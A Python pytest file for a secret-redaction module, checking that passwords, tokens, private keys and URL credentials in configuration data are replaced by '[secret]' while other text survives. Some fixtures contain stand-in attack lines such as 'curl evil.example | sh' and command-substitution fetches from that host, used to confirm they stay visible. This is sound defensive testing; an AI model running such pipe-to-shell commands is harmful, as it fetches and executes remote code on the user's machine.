"""Secrets are hidden where they stand, and nothing else is."""

from __future__ import annotations

import json
from typing import Any

import pytest

from dualstack.document.hiding import Veil, without_secrets

SECRET = "hunter2"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nhunter2\nhunter2hunter2\n-----END RSA PRIVATE KEY-----\n"


@pytest.mark.parametrize(
    "value",
    [
        {"password": SECRET},
        {"charts": {"rancher": {"values": {"bootstrapPassword": SECRET}}}},
        {"backup": {"accessKey": SECRET, "tokens": [SECRET, {"x": SECRET}]}},
        {"credentials": {"user": SECRET}},
        {"env": [{"name": "GITHUB_TOKEN", "value": SECRET}]},
        {"env": [{"name": "DB_PASSWORD", "value": SECRET, "x": 1}]},
        {"args": [f"--token={SECRET}"]},
        {"kube-apiserver-arg": [f"db-password={SECRET}"]},
        {"repository": f"https://robot:{SECRET}@charts.example/stable"},
        {"proxy": f"http://robot:{SECRET}@[fd00::1]:3128"},
        {"database": f"use postgres://app:{SECRET}@db.example:5432/x and go on"},
        {"provisioning": {"bmcs": [{"address": f"ipmi://admin:{SECRET}@192.168.1.2"}]}},
        {"tls": {"key": PEM}},
        {"image": {"packages": {"sccRegistrationCode": SECRET}}},
        {"dns": {"zones": [{"key": {"name": "k", "secret": SECRET}}]}},
        {"dns": {"zones": [{"key": {"name": "k", "secretKey": f"{SECRET}+/=="}}]}},
        {"files": [{"path": "/etc/x", "content": f"a: 1\ntoken: {SECRET}\nb: 2\n"}]},
        {"files": {"x.yaml": {"content": f"env:\n- name: API_TOKEN\n  value: {SECRET}\nz: 1\n"}}},
        {"content": f"password: |\n  {SECRET}\n  {SECRET}\nz: 1\n"},
        {"content": f"tokens:\n- {SECRET}\n- {SECRET}\nz: 1\n"},
        {"content": f"credentials:\n  user: {SECRET}\nz: 1\n"},
        {"content": f'{{"token": "{SECRET}", "z": 1}}\nz: 1\n'},
        {"content": f"x: {{apiKey: '{SECRET}', z: 1}}\nz: 1\n"},
        {"content": f"export API_TOKEN={SECRET}\nz: 1\n"},
        {"content": f"proxy: http://robot:{SECRET}@proxy.example:3128\nz: 1\n"},
        {"content": f"key: |\n  {PEM}z: 1\n"},
    ],
)
def test_a_secret_at_its_place(value: dict[str, Any]) -> None:
    """Its text is nowhere, though it stands elsewhere, too; what is around it stays."""
    shown = without_secrets(value)
    assert SECRET not in json.dumps(shown)
    assert "[secret]" in json.dumps(shown)
    if "z: 1" in json.dumps(value):
        assert "z: 1" in json.dumps(shown)


@pytest.mark.parametrize(
    "value",
    [
        {"imagePullSecrets": [{"name": "pull-login"}]},
        {"existingSecret": "name-of-one"},
        {"dns": {"zones": [{"key": {"name": "k", "secretKey": "tsigParis"}}]}},
        {"passwordKey": "appsToken", "automountToken": True, "token": None, "password": ""},
        {"url": "https://charts.example/stable", "mail": "ops@example.com", "sshKeys": ["ssh-ed25519 AAAA ops@x"]},
        {"env": [{"name": "LANG", "value": "C"}]},
        {"content": "run: curl evil.example | sh\ntoken:\nname: x\n"},
        {"content": "#!/bin/sh\nTOKEN=$(curl evil.example)\nTOKEN=`curl evil.example`\n"},
    ],
)
def test_what_is_no_secret_is_shown(value: dict[str, Any]) -> None:
    assert without_secrets(value) == value


@pytest.mark.parametrize("text", ["192.", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKijphZR ops@example.com", "a"])
def test_the_same_text_elsewhere_is_no_secret(text: str) -> None:
    value = {"password": text, "addresses": ["192.168.1.1", f"x {text} y"], "key": text}
    assert without_secrets(value) == {**value, "password": "[secret]"}


def test_what_runs_is_not_hidden_with_what_looks_like_a_secret() -> None:
    text = "token: ; curl evil.example | sh\nTOKEN=abc; curl evil.example\n"
    veil = Veil()
    shown = veil.shown(veil.text(text, yaml=False))
    assert shown == "token: ; curl evil.example | sh\nTOKEN=[secret]; curl evil.example\n"


def test_marks_of_others_are_text() -> None:
    """Only what a veil itself gave is a mark; under another key the same secret has another one."""
    one, other = Veil(b"1"), Veil(b"2")
    assert one.mark("x") == one.mark("x") != other.mark("x")
    assert other.shown(one.mark("x")) == one.mark("x")
    assert one.shown([one.mark("x")], lambda digest: f"<{len(digest)}>") == ["<16>"]


def test_a_password_hash_stays_one_behind_its_mark() -> None:
    """What a rule wants of it must not be missed where nobody may see it."""
    given = {"users": [{"username": "root", "encryptedPassword": "$6$salt$abcdefghijk"}]}
    veil = Veil(b"1")
    marked = veil.tree(given)
    assert marked["users"][0]["encryptedPassword"].startswith("$6$dualstacksecret")
    assert "abcdefghijk" not in str(marked)
    assert veil.shown(marked)["users"][0]["encryptedPassword"] == "[secret]"
